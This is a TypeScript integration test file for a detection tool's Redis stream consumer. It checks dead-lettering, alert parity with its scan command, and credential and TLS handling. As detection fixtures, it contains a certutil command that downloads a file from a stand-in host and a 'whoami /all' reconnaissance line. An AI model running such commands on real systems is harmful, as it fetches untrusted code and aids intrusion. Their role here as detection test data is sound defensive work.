/**
 * `sigmatch consume` on a real redis-server, entry by entry: poison entries dead-lettered with their codes, alerts
 * equal to what `sigmatch scan` prints for the same events, --fields-as-event, evtx_dump JSON over several lines,
 * --status, and credentials (password, TLS) that work and are never printed.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import { jsonLines, runCli } from '../support/cli.js';
import { ConsumerProcess, RedisServer, REDIS_SKIP_MESSAGE, addEntries, hasRedis, readStream, type TestClient } from '../support/redis.js';
import { eventEntries, makeEvents, ruleDir } from './fixtures.js';

if (!hasRedis) console.warn(REDIS_SKIP_MESSAGE);

const STREAM = 'events';
const GROUP = 'detect';

let redis: RedisServer | null = null;
let client: TestClient | null = null;
afterEach(async () => {
  await client?.close();
  await redis?.stop();
  redis = null;
  client = null;
});

async function setUp(options: Parameters<typeof RedisServer.start>[0] = {}): Promise<{ redis: RedisServer; client: TestClient }> {
  redis = await RedisServer.start(options);
  client = await redis.client();
  return { redis, client };
}

let dir: string;
let rules: string;
beforeAll(() => {
  dir = ruleDir();
  rules = join(dir, 'rules');
});

/** Run a consumer over what is in the stream (--drain) and return it once it has exited. */
async function drain(url: string, extra: string[] = [], env: Record<string, string> = {}): Promise<ConsumerProcess> {
  const c = new ConsumerProcess(['--redis', url, '-s', STREAM, '-g', GROUP, '-r', rules, '--from', '0', '--metrics', '--status-every', '0', '--block', '200', '--drain', ...extra], env);
  await c.exited;
  return c;
}

const WHOAMI = 'C:\\Windows\\System32\\whoami.exe';

/** evtx_dump's JSON for a Sysmon process creation, printed over several lines as evtx_dump prints it. */
const EVTX_EVENT = JSON.stringify(
  {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', TimeCreated: { '#attributes': { SystemTime: '2024-05-01T10:00:00.000000Z' } } },
      EventData: { Image: WHOAMI, CommandLine: 'whoami /all' },
    },
  },
  null,
  2,
);

describe.skipIf(!hasRedis)('sigmatch consume: entries, alerts, operations', () => {
  test('poison entries go to the dead-letter stream with their code and are acknowledged; counts are reported', async () => {
    const { redis, client } = await setUp();
    // Two entries a ghost consumer takes and never acknowledges: one delivered many times, one deleted meanwhile.
    const [manyTimes, deleted] = await addEntries(client, STREAM, [
      ['event', JSON.stringify({ Image: WHOAMI })],
      ['event', JSON.stringify({ Image: WHOAMI })],
    ]);
    await client.call('XGROUP', 'CREATE', STREAM, GROUP, '0');
    await client.call('XREADGROUP', 'GROUP', GROUP, 'ghost', 'COUNT', 2, 'STREAMS', STREAM, '>');
    await client.call('XCLAIM', STREAM, GROUP, 'ghost', 0, manyTimes, 'RETRYCOUNT', 9);
    await client.call('XDEL', STREAM, deleted);
    const poison: [string, string[]][] = [
      ['good', ['event', JSON.stringify({ Image: WHOAMI, UtcTime: '2024-05-01 10:00:00.000' })]],
      ['malformed', ['event', 'not json']],
      ['not-object', ['event', '[1,2]']],
      ['no-event', ['other', '1']],
      ['no-event', ['event', '   ']],
      ['malformed', ['event', '{"Image":"a\nb"}']],
      ['evtx', ['event', EVTX_EVENT]],
      ['malformed', ['event', '{"a":1} {"b":2}']],
    ];
    const ids = await addEntries(client, STREAM, poison.map(([, fields]) => fields));
    await new Promise((r) => setTimeout(r, 150)); // the ghost's entries idle past --claim-idle
    const c = await drain(redis.url, ['--claim-idle', '100ms', '--max-deliveries', '3', '--batch', '4']);
    expect(c.stderr).not.toMatch(/internal|Error/);
    expect(await c.exited).toEqual({ code: 0, signal: null });

    const dead = await readStream(client, `${STREAM}:dead-letter`);
    const codes = Object.fromEntries(dead.map((d) => [d.fields.entry_id, d.fields.code]));
    const expectedCodes: Record<string, string> = { [manyTimes]: 'max-deliveries', [deleted]: 'deleted' };
    poison.forEach(([kind], i) => {
      if (kind !== 'good' && kind !== 'evtx') expectedCodes[ids[i]] = kind;
    });
    expect(codes).toEqual(expectedCodes);
    // Each dead letter says why, and keeps the entry's own fields for a replay.
    const byId = Object.fromEntries(dead.map((d) => [d.fields.entry_id, d.fields]));
    expect(byId[manyTimes].reason).toMatch(/delivered 10 times without being acknowledged \(--max-deliveries 3\)/);
    expect(byId[manyTimes].deliveries).toBe('10');
    expect(byId[ids[1]]).toMatchObject({ stream: STREAM, event: 'not json', deliveries: '1' });
    expect(byId[ids[3]].reason).toMatch(/no "event" field/);
    expect(byId[ids[3]].other).toBe('1');
    expect(byId[ids[5]].reason).toBe('a line ends inside a JSON string');

    const alerts = await readStream(client, `${STREAM}:alerts`);
    expect(alerts.map((a) => a.fields.entry_id)).toEqual([ids[0], ids[6]]);
    const evtxAlert = JSON.parse(alerts[1].fields.alert);
    expect(evtxAlert.time).toBe('2024-05-01T10:00:00.000Z'); // normalised, as scan writes it
    expect(evtxAlert.fields).toEqual([{ field: 'Image', value: WHOAMI }]);

    const f = c.final();
    expect(f).toMatchObject({ entries: 9, events: 2, alerts: 2, deadLettered: 8, reclaimed: 1, acknowledged: 9, duplicates: 0 });
    expect(await client.call('XPENDING', STREAM, GROUP)).toEqual([0, null, null, null]);
    console.log(`poison: ${poison.length + 2} entries in, ${f.events} events processed, ${f.alerts} alerts, ${f.deadLettered} dead letters (${Object.values(codes).sort().join(', ')})`);

    // --status: the group, its consumers and their pending counts; the alerts and dead-letter streams.
    const text = runCli(['consume', '--redis', redis.url, '-s', STREAM, '--status']);
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/^stream events: 9 entries, 1 group$/m);
    expect(text.stdout).toMatch(/^alerts events:alerts: 2 entries$/m);
    expect(text.stdout).toMatch(/^dead letters events:dead-letter: 8 entries$/m);
    expect(text.stdout).toMatch(/^group detect: 0 pending, lag 0, last delivered /m);
    expect(text.stdout).toMatch(/^ {2}ghost +0 +[\d.]+s$/m);
    const json = JSON.parse(runCli(['consume', '--redis', redis.url, '-s', STREAM, '--status', '--format', 'json']).stdout);
    expect(json.groups[0]).toMatchObject({ name: GROUP, pending: 0, lag: 0 });
    expect(json.groups[0].consumers.map((x: { name: string }) => x.name)).toContain('ghost');
  });

  test("alerts carry what sigmatch scan prints for the same events (rule, level, tags, author, time, provenance)", async () => {
    const { redis, client } = await setUp();
    const events = makeEvents(300);
    const ids = await addEntries(client, STREAM, eventEntries(events));
    const c = await drain(redis.url, ['--batch', '37']);
    expect(await c.exited).toEqual({ code: 0, signal: null });
    const alerts = (await readStream(client, `${STREAM}:alerts`)).map((a) => JSON.parse(a.fields.alert));

    const file = join(dir, 'events.ndjson');
    writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
    const scan = runCli(['scan', '-r', rules, '--format', 'jsonl', '-q', file]);
    expect(scan.code).toBe(0);
    const hits = jsonLines(scan.stdout);
    expect(hits.length).toBeGreaterThan(100);
    expect(alerts.map((a) => a.entry)).toEqual(hits.map((h) => ids[h.event]));
    const asScan = alerts.map(({ alert: _a, stream: _s, entry: _e, ...rest }) => rest);
    expect(asScan).toEqual(hits.map(({ event: _e, line: _l, file: _f, ...rest }) => rest));
    expect(alerts[0].alert).toBe(`${STREAM}/${alerts[0].entry}/${alerts[0].id}`);
  });

  test('--fields-as-event: the entry fields are the event (a repeated field is a list)', async () => {
    const { redis, client } = await setUp();
    const ids = await addEntries(client, STREAM, [
      ['Image', WHOAMI, 'User', 'alice'],
      ['Image', 'C:\\x.exe', 'CommandLine', 'a', 'CommandLine', 'certutil -urlcache -f http://example.test/x'],
      ['Image', 'C:\\x.exe'],
    ]);
    const c = await drain(redis.url, ['--fields-as-event']);
    expect(await c.exited).toEqual({ code: 0, signal: null });
    const alerts = (await readStream(client, `${STREAM}:alerts`)).map((a) => JSON.parse(a.fields.alert));
    expect(alerts.map((a) => [a.entry, a.title, a.fields])).toEqual([
      [ids[0], 'Whoami Run', [{ field: 'Image', value: WHOAMI }]],
      [ids[1], 'Certutil Download', [{ field: 'CommandLine', value: 'certutil -urlcache -f http://example.test/x' }]],
    ]);
    expect(c.final()).toMatchObject({ entries: 3, events: 3, deadLettered: 0 });
  });

  test('a password from the URL or the environment works and is never printed; a wrong one is a clear exit 2', async () => {
    const password = 'S3cret-Pa55word!';
    const { redis, client } = await setUp({ password });
    await addEntries(client, STREAM, eventEntries(makeEvents(20)));
    const port = redis.port;
    const inUrl = await drain(`redis://:${encodeURIComponent(password)}@127.0.0.1:${port}/0`);
    const fromEnv = await drain(`redis://127.0.0.1:${port}`, ['-g', 'other'], { SIGMATCH_REDIS_PASSWORD: password });
    for (const c of [inUrl, fromEnv]) {
      expect(await c.exited).toEqual({ code: 0, signal: null });
      expect(c.final().events).toBe(20);
      expect(c.stdout + c.stderr).not.toContain(password);
      expect(c.stdout + c.stderr).not.toContain(encodeURIComponent(password));
      expect(c.stderr).toMatch(/\(redis:\/\/127\.0\.0\.1:\d+\/0 \(with password\)\)/);
    }
    const wrong = await drain(`redis://:wrong-${encodeURIComponent(password)}@127.0.0.1:${port}`);
    expect((await wrong.exited).code).toBe(2);
    expect(wrong.stderr).toMatch(/WRONGPASS|invalid username-password/);
    expect(wrong.stderr).not.toContain(password);
    const status = runCli(['consume', '--redis', `redis://127.0.0.1:${port}`, '-s', STREAM, '--status'], { env: { SIGMATCH_REDIS_PASSWORD: password } });
    expect(status.code).toBe(0);
    expect(status.stdout).toMatch(/^group detect: 0 pending/m);
  });

  const hasOpenssl = spawnSync('openssl', ['version']).status === 0;
  test.skipIf(!hasOpenssl)('TLS: rediss:// with the CA from SIGMATCH_REDIS_CA', async () => {
    const certs = mkdtempSync(join(tmpdir(), 'sigmatch-tls-'));
    const run = (...args: string[]): void => {
      const r = spawnSync('openssl', args, { cwd: certs, encoding: 'utf8' });
      if (r.status !== 0) throw new Error(`openssl ${args.join(' ')}: ${r.stderr}`);
    };
    writeFileSync(join(certs, 'san.ext'), 'subjectAltName=IP:127.0.0.1\n');
    run('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.crt', '-days', '2', '-subj', '/CN=sigmatch test CA');
    run('req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'server.key', '-out', 'server.csr', '-subj', '/CN=127.0.0.1');
    run('x509', '-req', '-in', 'server.csr', '-CA', 'ca.crt', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'server.crt', '-days', '2', '-extfile', 'san.ext');
    const tls = { cert: join(certs, 'server.crt'), key: join(certs, 'server.key'), ca: join(certs, 'ca.crt') };
    const { redis, client } = await setUp({ tls });
    await addEntries(client, STREAM, eventEntries(makeEvents(20)));
    const c = await drain(redis.url, [], { SIGMATCH_REDIS_CA: tls.ca });
    expect(await c.exited).toEqual({ code: 0, signal: null });
    expect(c.final()).toMatchObject({ events: 20, alerts: 15 });
    expect(c.stderr).toMatch(/rediss:\/\/127\.0\.0\.1:\d+\/0/);
    // Without the CA the server's certificate is not trusted: refused, not silently accepted.
    const untrusted = await drain(redis.url, ['-g', 'other']);
    expect((await untrusted.exited).code).toBe(2);
    expect(untrusted.stderr).toMatch(/self[- ]signed|unable to verify|certificate/i);
  });
});
